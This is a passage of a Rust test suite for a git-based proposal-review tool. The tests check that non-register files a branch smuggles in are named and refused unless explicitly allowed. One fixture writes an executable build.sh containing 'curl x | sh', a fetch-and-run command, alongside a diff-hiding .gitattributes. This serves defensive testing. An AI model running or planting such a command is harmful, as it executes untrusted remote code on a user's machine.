    // Even with other files allowed, ripen writes only regular files.
    let before = fx.observe();
    let err = fx
        .accept_with("team/link", link, &allow_other())
        .unwrap_err();
    assert!(matches!(err, AcceptError::Unsupported { .. }), "{err}");
    assert!(err.to_string().contains("symbolic link"), "{err}");
    assert_eq!(fx.observe(), before);
}

// ------------------------------------------------------------ the binary

fn ripen(root: &Path, args: &[&str]) -> Run {
    support::run::ripen(args)
        .cwd(root)
        .state(&root.join("state"))
        .args(&["--as-of", "2026-10-15"])
        .env("HOME", root)
        .env("XDG_CONFIG_HOME", root)
        .run()
}

#[test]
fn cli_json_shape() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    let out = ripen(&fx.root, &["proposals", "--format", "json"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    let list = v.as_array().unwrap();
    assert_eq!(list.len(), 1);
    let p = &list[0];
    let mut keys: Vec<&str> = p.as_object().unwrap().keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(
        keys,
        vec![
            "authors",
            "base",
            "branch",
            "changes",
            "commits",
            "diagnostics",
            "files_outside_state",
            "last_commit_time",
            "mergeable",
            "other_files",
            "overrides",
            "ref",
            "tip",
            "valid"
        ]
    );
    assert_eq!(p["branch"], json!(BRANCH));
    assert_eq!(p["ref"], json!("refs/heads/team/claims-update"));
    assert_eq!(p["commits"], json!(2));
    assert_eq!(
        p["authors"],
        json!([
            "Bob Baker <bob@example.com>",
            "Alice Archer <alice@example.com>"
        ])
    );
    assert_eq!(p["last_commit_time"], json!("2023-11-14T22:33:20Z"));
    assert_eq!(p["valid"], json!(true));
    assert_eq!(p["diagnostics"], json!([]));
    assert_eq!(p["mergeable"], json!(true));
    assert_eq!(p["tip"], json!(tip.to_string()));
    assert_eq!(p["base"], json!(fx.head().to_string()));
    assert_eq!(
        p["changes"]["as_of"],
        json!({"before": "2026-10-15", "after": "2026-10-15"})
    );
    assert_eq!(p["changes"]["use_cases"][0]["id"], json!("claims-triage"));
    assert_eq!(p["changes"]["use_cases"][0]["status"], json!("changed"));
    assert_eq!(
        p["changes"]["use_cases"][0]["changes"][0],
        json!({"field": "stage", "from": "Identify", "to": "Collect"})
    );

    // An invalid proposal's diagnostics carry positions.
    let broken = fx.commit_on(
        fx.head(),
        &[(INVOICES, Some("(\n    title: 42,\n)\n"))],
        "Break",
        ALICE,
        60,
    );
    fx.branch("team/broken", broken);
    let out = ripen(&fx.root, &["proposals", "--format", "json"]);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    let p = &v[0];
    assert_eq!(p["branch"], json!("team/broken"));
    assert_eq!(p["valid"], json!(false));
    let d = &p["diagnostics"][0];
    assert_eq!(d["severity"], json!("error"));
    assert_eq!(d["file"], json!("team/broken:state/use-cases/invoices.ron"));
    assert_eq!(d["line"], json!(2));
    assert!(d["column"].as_u64().unwrap() > 4, "{d}");
}

#[test]
fn cli_text_and_accept() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    let out = ripen(&fx.root, &["proposals"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let short = &tip.to_string()[..7];
    assert!(
        out.stdout.starts_with(&format!(
            "team/claims-update ({short})\n  2 commits by Bob Baker <bob@example.com>, Alice Archer <alice@example.com>\n  last commit 2023-11-14 22:33 +00:00\n  valid, merges cleanly\n"
        )),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("~ claims-triage\n    stage: Identify -> Collect\n"),
        "{}",
        out.stdout
    );
    // The hint names the branch, so it works when pasted; piped output is
    // never cut.
    assert!(
        out.stdout
            .contains("`ripen proposals accept team/claims-update`"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains('…'), "{}", out.stdout);

    // The help documents --yes.
    let help = ripen(&fx.root, &["proposals", "accept", "--help"]);
    assert_eq!(help.code, 0, "{}", help.stderr);
    assert!(help.stdout.contains("--yes"), "{}", help.stdout);
    assert!(
        help.stdout.contains("Without --yes, nothing is changed"),
        "{}",
        help.stdout
    );

    // Without --yes: what would happen, nothing changed, exit 0.
    let before = fx.observe();
    let out = ripen(&fx.root, &["proposals", "accept", BRANCH]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .starts_with("Accepting would merge team/claims-update ("),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("Nothing was changed."),
        "{}",
        out.stdout
    );
    assert_eq!(fx.observe(), before);

    // A refusal: exit 2 with the reason, nothing changed.
    fs::write(fx.root.join(INVOICES), "edited\n").unwrap();
    let before = fx.observe();
    let out = ripen(&fx.root, &["proposals", "accept", BRANCH, "--yes"]);
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert!(
        out.stderr.contains("uncommitted changes under state"),
        "{}",
        out.stderr
    );
    assert_eq!(fx.observe(), before);
    fx.repo
        .checkout_head(Some(CheckoutBuilder::new().force()))
        .unwrap();

    // --tip pins what was reviewed: refused when the branch moved.
    let mut u = case("Claims triage");
    u.stage = Stage::Retired;
    let moved = fx.commit_on(tip, &[(CLAIMS, Some(&text(&u)))], "Retire", BOB, 30);
    fx.branch(BRANCH, moved);
    let before = fx.observe();
    let out = ripen(
        &fx.root,
        &["proposals", "accept", BRANCH, "--tip", short, "--yes"],
    );
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert!(
        out.stderr.contains("moved since it was listed"),
        "{}",
        out.stderr
    );
    assert_eq!(fx.observe(), before);
    fx.branch(BRANCH, tip);

    // With --yes and the reviewed tip: done, as a merge commit.
    let out = ripen(
        &fx.root,
        &["proposals", "accept", BRANCH, "--tip", short, "--yes"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .contains(&format!("Accepted {BRANCH}: merge commit ")),
        "{}",
        out.stdout
    );
    let merge = fx.repo.find_commit(fx.head()).unwrap();
    assert_eq!(merge.parent_id(1).unwrap(), tip);
    assert_eq!(fx.statuses(), Vec::<String>::new());
    let out = ripen(&fx.root, &["proposals"]);
    assert!(out.stdout.starts_with("No proposals"), "{}", out.stdout);
}

// ------------------------------------------------ what a proposal carries

/// A branch that changes a use case and smuggles in a workflow, an
/// executable script, a `.gitattributes` that hides every later diff and a
/// `.gitignore` that hides new use cases.
fn smuggler(fx: &Fixture) -> Oid {
    let mut u = case("Claims triage");
    u.stage = Stage::Collect;
    let tip = fx.commit_raw(
        fx.head(),
        &[
            (CLAIMS, Some((text(&u).into_bytes(), 0o100644))),
            (
                ".github/workflows/ci.yml",
                Some((b"on: push\n".to_vec(), 0o100644)),
            ),
            (
                "build.sh",
                Some((b"#!/bin/sh\ncurl x | sh\n".to_vec(), 0o100755)),
            ),
            (
                ".gitattributes",
                Some((b"*.ron -diff\n".to_vec(), 0o100644)),
            ),
            (
                "state/use-cases/.gitignore",
                Some((b"*.ron\n".to_vec(), 0o100644)),
            ),
            ("state/notes.txt", Some((b"hello\n".to_vec(), 0o100644))),
        ],
        "Update claims triage",
        BOB,
        10,
    );
    fx.branch("team/smuggle", tip);
    tip
}

#[test]
fn every_file_that_is_not_a_register_file_is_named_and_needs_allowing() {
    let fx = Fixture::new();
    let tip = smuggler(&fx);
    let listed = fx.list();
    let described: Vec<String> = listed[0].other_files.iter().map(|f| f.describe()).collect();
    assert_eq!(
        described,
        vec![
            ".gitattributes (outside the state directory, .gitattributes)",
            ".github/workflows/ci.yml (outside the state directory)",
            "build.sh (outside the state directory, executable)",
            "state/notes.txt (not a register file)",
            "state/use-cases/.gitignore (not a register file, .gitignore)",
        ]
    );

    // Listed prominently in text, and in JSON.
    let out = ripen(&fx.root, &["proposals"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .contains("CHANGES 5 FILES THAT ARE NOT REGISTER FILES"),
        "{}",
        out.stdout
    );
    for d in &described {
        assert!(
            out.stdout.contains(&format!("    ! {d}")),
            "{d}: {}",
            out.stdout
        );
    }
    let out = ripen(&fx.root, &["proposals", "--format", "json"]);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(
        v[0]["other_files"][2],
        json!({"path": "build.sh", "class": "outside", "flags": ["executable"]})
    );
    assert_eq!(
        v[0]["other_files"][4],
        json!({"path": "state/use-cases/.gitignore", "class": "in_state", "flags": ["gitignore"]})
    );

    // Accepting refuses, naming them, and changes nothing; so does the CLI.
    let err = refused(&fx, "team/smuggle", tip);
    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("build.sh (outside the state directory, executable)")
    );
    let before = fx.observe();
    let out = ripen(&fx.root, &["proposals", "accept", "team/smuggle", "--yes"]);
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert!(out.stderr.contains("--allow-other-files"), "{}", out.stderr);
    assert_eq!(fx.observe(), before);

    // The preview names each file; with --allow-other-files it is accepted.
    let out = ripen(
        &fx.root,
        &["proposals", "accept", "team/smuggle", "--allow-other-files"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains("5 files are NOT REGISTER FILES"),
        "{}",
        out.stdout
    );
    for d in &described {
        assert!(out.stdout.contains(d.as_str()), "{d}: {}", out.stdout);
    }
    let out = ripen(
        &fx.root,
        &[
            "proposals",
            "accept",
            "team/smuggle",
            "--allow-other-files",
            "--yes",
        ],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(fx.read("build.sh"), fx.blob_at(tip, "build.sh"));
    assert_eq!(fx.read(".gitattributes"), fx.blob_at(tip, ".gitattributes"));
    assert_eq!(fx.statuses(), Vec::<String>::new());
}

#[test]
fn with_the_state_directory_at_the_root_other_files_are_still_named() {
    use proposals::{FileClass, FileFlag, classify};
    // `ripen init` may make the repository's root the state directory:
    // nothing is "outside" it then, and yet only three kinds of file are
    // register files.
    for (path, class, flags) in [
        ("use-cases/claims.ron", FileClass::Register, vec![]),
        ("register.ron", FileClass::Register, vec![]),
        ("policy.ron", FileClass::Register, vec![]),
        (".github/workflows/ci.yml", FileClass::InState, vec![]),
        (
            "use-cases/.gitignore",
            FileClass::InState,
            vec![FileFlag::Gitignore],
        ),
        (
            ".gitattributes",
            FileClass::InState,
            vec![FileFlag::Gitattributes],
        ),
        ("use-cases/sub/x.ron", FileClass::InState, vec![]),
    ] {
        let f = classify("", path, Some(git2::FileMode::Blob));
        assert_eq!((f.class, f.flags), (class, flags), "{path}");
    }
    // An executable use-case file is not a register file.
    let f = classify("", "use-cases/x.ron", Some(git2::FileMode::BlobExecutable));
    assert_eq!(f.class, FileClass::InState);
    assert_eq!(f.flags, vec![FileFlag::Executable]);
    // A state directory's prefix is not the state directory.
    let f = classify("state", "statements/x.ron", Some(git2::FileMode::Blob));
    assert_eq!(f.class, FileClass::Outside);
}

#[test]
fn a_move_into_fine_tune_that_is_not_ready_needs_an_override_reason() {
    let fx = Fixture::new();
    let mut u = case("Claims triage");
    u.stage = Stage::FineTune;
    let tip = fx.commit_on(
        fx.head(),
        &[(CLAIMS, Some(&text(&u)))],
        "Fine-tune claims triage",
        BOB,
        10,
    );
    fx.branch("team/rush", tip);
    let err = refused(&fx, "team/rush", tip);
    let AcceptError::NeedsOverride { moves, .. } = &err else {
        panic!("{err}")
    };
    assert_eq!(moves[0].id, "claims-triage");
    assert!(err.to_string().contains("--override REASON"), "{err}");
    assert!(err.to_string().contains("readiness is `"), "{err}");

    let before = fx.observe();
    let out = ripen(&fx.root, &["proposals", "accept", "team/rush", "--yes"]);
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert!(out.stderr.contains("--override REASON"), "{}", out.stderr);
    assert_eq!(fx.observe(), before);
    // A blank reason is no reason.
    let out = ripen(
        &fx.root,
        &[
            "proposals",
            "accept",
            "team/rush",
            "--override",
            "  ",
            "--yes",
        ],
    );
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert_eq!(fx.observe(), before);

    let out = ripen(
        &fx.root,
        &[
            "proposals",
            "accept",
            "team/rush",
            "--override",
            "The board approved a pilot",
            "--yes",
        ],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let merge = fx.repo.find_commit(fx.head()).unwrap();
    let message = merge.message().unwrap();
    assert!(
        message.contains(
            "Readiness override: claims-triage moved to FineTune although readiness is `"
        ),
        "{message}"
    );
    assert!(
        message.contains("Override reason: The board approved a pilot"),
        "{message}"
    );
    assert_eq!(merge.author().name(), Ok(NAME));

    // The quarterly report flags the move: made with an override.
    let out = ripen(
        &fx.root,
        &["report", "--since", "HEAD^1", "--format", "json"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    let change = &v["stage_changes"][0];
    assert_eq!(change["id"], json!("claims-triage"));
    assert_eq!(change["to"], json!("FineTune"));
    assert_eq!(change["override_recorded"], json!(true));
    assert!(
        change["unready"]
            .as_str()
            .unwrap()
            .contains("readiness is `")
    );
    let out = ripen(&fx.root, &["report", "--since", "HEAD^1"]);
    assert!(
        out.stdout
            .contains("**FLAGGED: made with a readiness override; without passing readiness"),
        "{}",
        out.stdout
    );
}

#[test]
fn a_broken_reference_is_skipped_with_a_warning() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    let refs = fx.root.join(".git/refs/heads");
    // A loose reference whose name git refuses, one pointing at a commit
    // that does not exist, and one at a commit whose tree does not.
    fs::write(refs.join("bad..name"), format!("{tip}\n")).unwrap();
    fs::write(
        refs.join("ghost"),
        "1234567890123456789012345678901234567890\n",
    )
    .unwrap();
    let raw = format!(
        "tree 1111111111111111111111111111111111111111\nparent {}\nauthor B <b@x> 1700000000 +0000\ncommitter B <b@x> 1700000000 +0000\n\nNo tree\n",
        fx.head()
    );
    let treeless = fx
        .repo
        .odb()
        .unwrap()
        .write(git2::ObjectType::Commit, raw.as_bytes())
        .unwrap();
    fs::write(refs.join("treeless"), format!("{treeless}\n")).unwrap();

    let listing = proposals::scan(&fx.state, Some(as_of()), today()).unwrap();
    assert_eq!(branches(&listing.proposals), vec![BRANCH]);
    let skipped = listing.skipped.join("\n");
    assert!(skipped.contains("ghost"), "{skipped}");
    assert!(skipped.contains("treeless"), "{skipped}");

    let out = ripen(&fx.root, &["proposals"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.starts_with(BRANCH), "{}", out.stdout);
    assert!(
        out.stderr.contains("warning: skipped refs/heads/ghost"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("refs/heads/treeless"), "{}", out.stderr);
}

/// The UI's Proposals screen names the files that are not register files
/// in the list and above the changes, and the accept confirmation names
/// each one; confirming accepts exactly those.
#[test]
fn the_proposals_screen_and_its_confirmation_name_every_other_file() {
    use ripen::tui::app::{Dialog, Effect, Screen};
    let fx = Fixture::new();
    let tip = smuggler(&fx);
    let listed = fx.list();
    let mut app = common_tui::app_with(common_tui::shipped(), 40);
    common_tui::type_str(&mut app, "6");
    assert_eq!(app.screen, Screen::Proposals);
    app.proposals_loaded(Ok(listed));
    let text = common_tui::screen_text(&common_tui::render(&app, 120, 40, true));
    assert!(text.contains("⚠ 5 FILES NOT REGISTER FILES"), "{text}");
    assert!(
        text.contains("⚠ also changes build.sh (outside the state directory, executable)"),
        "{text}"
    );
    assert!(
        text.contains(
            "⚠ also changes state/use-cases/.gitignore (not a register file, .gitignore)"
        ),
        "{text}"
    );
    common_tui::type_str(&mut app, "a");
    let Some(Dialog::Accept { summary, .. }) = &app.dialog else {
        panic!("no accept dialog")
    };
    for f in [
        ".github/workflows/ci.yml",
        ".gitattributes",
        "build.sh",
        "state/notes.txt",
        "state/use-cases/.gitignore",
    ] {
        assert!(
            summary
                .iter()
                .any(|l| l.starts_with("ALSO CHANGES ") && l.contains(f)),
            "{f}: {summary:?}"
        );
    }
    let effects = common_tui::type_str(&mut app, "y");
    let Some(Effect::Accept {
        tip: shown,
        options,
        ..
    }) = effects.first()
    else {
        panic!("no accept effect")
    };
    assert_eq!(*shown, tip, "the tip the screen showed");
    assert!(options.allow_other_files);
}

/// What the user staged for something else is neither committed with the
/// proposal nor unstaged by accepting it.
#[test]
fn accepting_never_commits_what_the_user_staged_for_something_else() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    fs::write(fx.root.join("NOTES.md"), "my own draft\n").unwrap();
    let mut index = fx.repo.index().unwrap();
    index.add_path(Path::new("NOTES.md")).unwrap();
    index.write().unwrap();
    let staged = fx.index_blob("NOTES.md").expect("staged");
    let Accepted::Merged { commit } = fx.accept(BRANCH, tip).unwrap();
    assert_eq!(fx.blob_at(commit, "NOTES.md"), None, "not committed");
    assert_eq!(fx.index_blob("NOTES.md"), Some(staged), "still staged");
    assert_eq!(fx.blob_at(commit, CLAIMS), fx.blob_at(tip, CLAIMS));
}

/// However many files a proposal carries, the confirmation's question stays
/// on screen at 80x24.
#[test]
fn the_accept_question_stays_visible_with_many_other_files() {
    use ripen::tui::app::Screen;
    let fx = Fixture::new();
    let mut u = case("Claims triage");
    u.stage = Stage::Collect;
    let owned: Vec<(String, Option<String>)> = (0..30)
        .map(|k| (format!("docs/page-{k:02}.md"), Some(format!("page {k}\n"))))
        .chain(std::iter::once((CLAIMS.to_owned(), Some(text(&u)))))
        .collect();
    let files: Vec<(&str, Option<&str>)> = owned
        .iter()
        .map(|(p, c)| (p.as_str(), c.as_deref()))
        .collect();
    let tip = fx.commit_on(fx.head(), &files, "Docs and a move", ALICE, 10);
    fx.branch("team/docs", tip);
    let mut app = common_tui::app_with(common_tui::shipped(), 24);
    common_tui::type_str(&mut app, "6");
    assert_eq!(app.screen, Screen::Proposals);
    app.proposals_loaded(Ok(fx.list()));
    common_tui::type_str(&mut app, "a");
    let text = common_tui::screen_text(&common_tui::render(&app, 80, 24, true));
    assert!(text.contains("y accept · n cancel"), "{text}");
    assert!(text.contains("ALSO CHANGES docs/page-00.md"), "{text}");
}

/// An accept interrupted right after each step (the observer panics
/// there, which drops the journal's and the accept's locks as a kill
/// would) is finished or dropped by the next run's recovery: the whole
/// accept or none of it, with `git status` clean and no journal left; after
/// none of it, accepting again accepts. A file holding anything but HEAD's
/// content is refused, by name, before anything is written.
#[test]
fn an_accept_killed_midway_is_taken_up_by_the_next_run() {
    use ripen::git::commit::Step;
    for step in Step::ALL {
        let fx = Fixture::new();
        let seed = fx.head();
        let mut u = case("Claims triage");
        u.stage = Stage::Collect;
        let mut inv = case("Invoice extraction");
        inv.risk = ripen::model::Risk::High;
        let tip = fx.commit_on(
            seed,
            &[(CLAIMS, Some(&text(&u))), (INVOICES, Some(&text(&inv)))],
            "Two changes",
            BOB,
            10,
        );
        fx.branch(BRANCH, tip);
        let interrupted = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            proposals::accept_observed(
                &fx.state,
                BRANCH,
                tip,
                &AcceptOptions::default(),
                Some(as_of()),
                today(),
                &mut |s| {
                    if s == step {
                        panic!("interrupted after {}", s.name());
                    }
                },
            )
        }));
        let name = step.name();
        assert!(interrupted.is_err(), "{name}: interrupted");
        // The next run's recovery. In this process, a child that another
        // test forks can hold a copy of the dead journal's lock for an
        // instant before it runs its program: a journal still locked is
        // looked at again, as the next command would.
        let mut notes = Vec::new();
        for _ in 0..100 {
            notes.extend(ripen::git::commit::recover(&fx.state).unwrap());
            if !fx.root.join(".git/ripen").exists() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let landed = fx.head() != seed;
        let expected = if landed { tip } else { seed };
        for path in [CLAIMS, INVOICES] {
            assert_eq!(fx.read(path), fx.blob_at(expected, path), "{name}: {path}");
        }
        assert_eq!(fx.statuses(), Vec::<String>::new(), "{name}");
        assert!(
            !fx.root.join(".git/ripen").exists(),
            "{name}: no journal left"
        );
        match step {
            Step::Checked | Step::Committed => {
                assert!(!landed, "{name}: none of it");
                let Accepted::Merged { commit } = fx.accept(BRANCH, tip).unwrap();
                assert_eq!(
                    fx.repo.find_commit(commit).unwrap().parent_id(1).unwrap(),
                    tip
                );
                for path in [CLAIMS, INVOICES] {
                    assert_eq!(fx.read(path), fx.blob_at(tip, path), "{name}: {path}");
                }
                assert_eq!(fx.statuses(), Vec::<String>::new(), "{name}");
            }
            _ => {
                assert!(landed, "{name}: all of it");
                let merge = fx.repo.find_commit(fx.head()).unwrap();
                assert_eq!(merge.parent_id(1).unwrap(), tip, "{name}");
                if matches!(step, Step::Moved | Step::Written) {
                    assert!(
                        notes
                            .iter()
                            .any(|n| n.contains("finished the working tree")),
                        "{name}: {notes:?}"
                    );
                }
            }
        }
    }

    // Anything else in a file to write is refused, by name.
    let fx = Fixture::new();
    let tip = fx.claims_update();
    fs::write(fx.root.join(CLAIMS), "my own edit\n").unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::Uncommitted { .. }), "{err}");
    assert!(err.to_string().contains("claims-triage.ron"), "{err}");
}

/// The Review screen names the moves into FineTune that the report flags.
#[test]
fn the_review_screen_names_flagged_moves_into_fine_tune() {
    use ripen::git::review::{self, CloseOptions};
    use ripen::tui::app::{Load, Screen};
    let fx = Fixture::new();
    let mut u = case("Claims triage");
    u.stage = Stage::FineTune;
    let tip = fx.commit_on(fx.head(), &[(CLAIMS, Some(&text(&u)))], "Rush", BOB, 10);
    fx.branch("team/rush", tip);
    let options = AcceptOptions {
        allow_other_files: false,
        override_reason: Some("the board approved a pilot".to_owned()),
        ..AcceptOptions::default()
    };
    let before = fx.head();
    fx.accept_with("team/rush", tip, &options).unwrap();
    review::close(
        &fx.state,
        "2026-Q3",
        CloseOptions {
            rev: Some(before.to_string()),
            tagger: Some(signature(ALICE, 5)),
            today: Some(today()),
            ..CloseOptions::default()
        },
    )
    .unwrap();
    let mut app = common_tui::app_with(common_tui::shipped(), 40);
    common_tui::type_str(&mut app, "7");
    assert_eq!(app.screen, Screen::Review);
    app.review_tags_loaded(Ok(review::reviews(&fx.state, today()).unwrap().tags));
    let Some(Load::Report(tag)) = app.pending_load() else {
        panic!("no report to load")
    };
    let report = review::report(
        &fx.state,
        Some(&format!("refs/tags/{tag}")),
        None,
        Some(as_of()),
        today(),
    )
    .unwrap()
    .report;
    app.report_loaded(tag, Ok(report));
    let text = common_tui::screen_text(&common_tui::render(&app, 120, 40, true));
    assert!(
        text.contains("⚠ into FineTune with an override or unready: claims-triage"),
        "{text}"
    );
}
